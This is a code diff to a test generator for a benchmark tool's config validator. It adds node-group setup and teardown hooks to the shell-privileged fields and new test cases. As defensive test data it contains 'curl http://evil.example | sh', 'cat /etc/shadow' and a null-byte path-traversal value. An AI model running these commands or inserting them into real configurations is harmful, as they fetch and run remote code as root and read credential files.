@@ -84,6 +84,31 @@ BASE: dict[str, Any] = {
                 }
             ],
         },
+        {
+            "id": "vsan",
+            "instance_type": "c5.large",
+            "placement": "cluster",
+            "nodes": [
+                {
+                    "role": "controller",
+                    "count": 2,
+                    "instance_type": "c5.large",
+                    "ports": ["tcp/4420"],
+                    "root_volume": {"type": "gp3", "size_gib": 8},
+                    "targets": [
+                        {
+                            "id": "disk",
+                            "kind": "ebs",
+                            "type": "gp3",
+                            "size_gib": 10,
+                            "filesystem": "raw",
+                            "prepare": False,
+                        }
+                    ],
+                }
+            ],
+            "targets": [{"id": "vsan", "kind": "local", "path": "/mnt/vsan"}],
+        },
     ],
     "workloads": [
         {"profile": "std-randread-4k", "id": "rr", "targets": ["data"], "scale": 0.01},
@@ -119,7 +144,7 @@ INJECTIONS = {
     "traversal": "../../../../etc/passwd\x00",
 }
 FREE_TEXT = {("BenchmarkRequest", "description"), ("Config", "description")}
-SHELL = {("Config", "setup"), ("Config", "teardown")}
+SHELL = {("Config", "setup"), ("Config", "teardown"), ("NodeGroup", "setup"), ("NodeGroup", "teardown")}
 
 
 @dataclass(frozen=True)
@@ -406,6 +431,12 @@ def privileged_cases() -> Iterator[Case]:
             _with(("configs", 1, hook), "curl http://evil.example | sh"),
             "privileged",
             f"configs[1].{hook}",
+        )
+        yield _case(  # a node's hooks are shell as root too, on every node of the group
+            f"node-hook-{hook}",
+            _with(("configs", 2, "nodes", 0, hook), "curl http://evil.example | sh"),
+            "privileged",
+            f"configs[2].nodes[0].{hook}",
         )
     shell_workloads = {
         "command": {"profile": "command", "params": {"command": "cat /etc/shadow"}},
